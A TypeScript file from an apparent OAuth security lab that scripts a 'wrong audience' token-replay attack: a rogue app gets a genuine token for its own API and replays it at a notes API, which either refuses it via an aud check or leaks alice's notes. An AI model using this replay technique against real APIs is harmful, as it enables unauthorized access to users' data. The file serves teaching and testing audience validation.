import { randomBytes } from 'node:crypto';
import { defineAttack } from '../engine/define-attack.ts';
import { queryOf } from '../library/exchanges.ts';
import { CallbackHold } from '../library/hold-callback.ts';
import { readJson } from '../library/scripted-user-agent.ts';
import { ALICE_SECRET_NOTE, readNotes } from '../library/notes-view.ts';
import { createPkcePair, readJwt } from '../library/attack-tools.ts';

/** Mallory's app, registered at the lab's authorization server (authserver/src/provider.ts). */
const ROGUE_CLIENT = 'mallory-app';

/**
 * RFC 8707 (resource indicators) and RFC 9068 §4 (the `aud` check). One authorization server
 * serves many APIs; its tokens all carry the same issuer and signature. What keeps a token for
 * one API from being spent at another is its audience, and an API that checks it.
 */
export const [wrongAudience, wrongAudienceWeakened] = defineAttack({
  id: 'attack-wrong-audience',
  title: "Wrong audience: a token for Mallory's API replayed at the notes API",
  threat: 'RFC 9068 §4 and RFC 8725 §3.9 (audience validation); RFC 8707 (resource indicators); RFC 9700 §4.10 (misuse of stolen access tokens)',
  defence: 'api-audience',
  teaches:
    "Every API of an authorization server receives tokens signed by the same key, with the same issuer, and possibly the same scope names. A token alice gave Mallory's app for Mallory's API is genuine: only its aud says it is not for the notes API. The notes API accepts a token only if its aud names the notes API (RFC 9068 §4): with that check off, any app alice ever signed in to can read her notes.",
  prerequisites: [
    `Mallory (Attacker) runs an app of her own, "${ROGUE_CLIENT}" (a public client with PKCE), and an API of her own, registered at the same authorization server as the notes API, with the same scope names notes:read and notes:write.`,
    "alice (Resource Owner) has a fresh browser (User Agent) and signs in to Mallory's app: nothing wrong with that, apps ask for sign-in all the time.",
  ],
  async run({ topology, step, newUserAgent, fetchAs }, { defended }) {
    const issuer = topology.authserver.url;
    const api = topology['resource-api'].url;
    const rogueApi = `${topology.attacker.url}/api`;
    const redirectUri = `${topology.attacker.url}/callback`;
    const pkce = createPkcePair();
    const alicesBrowser = await newUserAgent();
    const page = await alicesBrowser.newPage();

    await step(
      {
        actor: 'Resource Owner',
        action: "opens Mallory's app, which sends her to the authorization server; she signs in",
        look: 'the consent page: which client, which resource',
      },
      async (s) => {
        const authorize = new URL(`${issuer}/auth`);
        authorize.search = new URLSearchParams({
          client_id: ROGUE_CLIENT,
          response_type: 'code',
          redirect_uri: redirectUri,
          scope: 'openid notes:read',
          resource: rogueApi,
          state: randomBytes(16).toString('base64url'),
          code_challenge: pkce.code_challenge,
          code_challenge_method: 'S256',
        }).toString();
        await page.goto(authorize.toString());
        await page.waitForURL(`${issuer}/interaction/**`);
        await page.locator('#username').fill('alice');
        await page.locator('#password').fill('alice');
        await page.getByRole('button', { name: 'Sign in' }).click();
        await page.getByRole('button', { name: 'Allow' }).waitFor();
        const consent = await page.evaluate(() => ({
          client: [...document.querySelectorAll('code')].map((code) => code.textContent ?? '').find((text) => text.startsWith('client_id=')),
          resource: [...document.querySelectorAll('p')].find((p) => p.textContent?.startsWith('On the resource'))?.querySelector('code')?.textContent,
          scopes: [...document.querySelectorAll('ul.scopes li code')].map((code) => code.textContent ?? ''),
        }));
        s.expect("the consent page names Mallory's app", `client_id=${ROGUE_CLIENT}`, consent.client);
        s.expect("and Mallory's API as the resource", rogueApi, consent.resource);
        s.expect("with scopes that read like the notes API's", ['openid', 'notes:read'], consent.scopes);
        s.note("alice agrees that Mallory's app may read notes on Mallory's API. That is all she agrees to.");
        s.sees({ browser: 'the consent page for mallory-app', authserver: `alice, signed in, deciding for client mallory-app and resource ${rogueApi}` });
      },
    );

    const code = await step(
      {
        actor: 'Resource Owner',
        action: 'clicks "Allow": the authorization server sends the code to Mallory\'s app',
        look: "the code arriving on Mallory's site",
      },
      async (s) => {
        const hold = await CallbackHold.install(alicesBrowser, page, `${redirectUri}*`);
        void page
          .getByRole('button', { name: 'Allow' })
          .click()
          .catch(() => undefined);
        const callbackUrl = await hold.held();
        await hold.release();
        const callback = queryOf(callbackUrl);
        s.expect("the redirect goes to mallory-app's registered redirect URI", redirectUri, callbackUrl.split('?')[0]);
        s.check('with an authorization code', 'a code', callback.code ? `code (${callback.code.length} chars)` : 'none', Boolean(callback.code));
        s.note(
          "Mallory's site is a plain page in the lab (a 404 at /callback): the code arrived in the URL all the same, and her backend takes it from there.",
        );
        s.sees({ browser: "Mallory's site", attacker: 'an authorization code for mallory-app, for alice' });
        return callback.code ?? '';
      },
    );

    const accessToken = await step(
      {
        actor: 'Attacker',
        action: 'her backend redeems the code at the token endpoint: a public client, with her PKCE verifier',
        look: "the access token's aud, sub and scope",
      },
      async (s) => {
        const response = await fetchAs('attacker', `${issuer}/token`, {
          method: 'POST',
          body: new URLSearchParams({
            grant_type: 'authorization_code',
            code,
            redirect_uri: redirectUri,
            client_id: ROGUE_CLIENT,
            code_verifier: pkce.code_verifier,
            resource: rogueApi,
          }),
        });
        const body = await readJson(response);
        const token = typeof body.access_token === 'string' ? body.access_token : '';
        const claims = token ? readJwt(token).payload : {};
        s.expect('the authorization server issues an access token', 200, response.status);
        s.expect(
          'a genuine one: same issuer as every notes token, for alice, with notes:read',
          { iss: issuer, sub: 'alice', scope: 'notes:read', client_id: ROGUE_CLIENT },
          { iss: claims.iss, sub: claims.sub, scope: claims.scope, client_id: claims.client_id },
        );
        s.expect("but its audience is Mallory's API", rogueApi, claims.aud);
        s.note('Everything about this token is honest, and signed by the authorization server. It was simply issued for another API.');
        s.sees({ attacker: "a real access token of alice's, for Mallory's API" });
        return token;
      },
    );

    await step({ actor: 'Attacker', action: 'replays that token at the notes API: GET /notes', look: 'the aud check' }, async (s) => {
      const response = await fetchAs('attacker', `${api}/notes`, { headers: { Authorization: `Bearer ${accessToken}` } });
      const body = await readJson(response);
      const shown = readNotes(body);
      if (defended) {
        s.expect('the notes API refuses it', { status: 401, error: 'invalid_token' }, { status: response.status, error: body.error });
        s.expect(
          'because the token is for another audience',
          `Bearer realm="resource-api", error="invalid_token", error_description="aud is ${rogueApi}, this API is ${api}"`,
          response.headers.get('www-authenticate'),
        );
        s.expect("no note of alice's reached Mallory", false, shown.texts.includes(ALICE_SECRET_NOTE));
        s.note(
          'RFC 9068 §4: the resource server MUST check that aud contains its own identifier (its resource indicator, RFC 8707). The signature said "the authorization server issued this"; aud says "for whom".',
        );
      } else {
        s.expectLeak(
          "the notes API accepts it and serves alice's notes to Mallory",
          { status: 200, owner: 'alice', leaked: true },
          { status: response.status, owner: shown.owner, leaked: shown.texts.includes(ALICE_SECRET_NOTE) },
        );
        s.note(
          'Signature, issuer, expiry, typ and scope all checked out. Without the aud check, any API alice ever gave a token to can spend it here, and so can whoever runs that API.',
        );
      }
      s.sees({ attacker: defended ? 'a 401: the token is for her own API only' : `alice's notes: "${ALICE_SECRET_NOTE}"` });
    });
  },
});
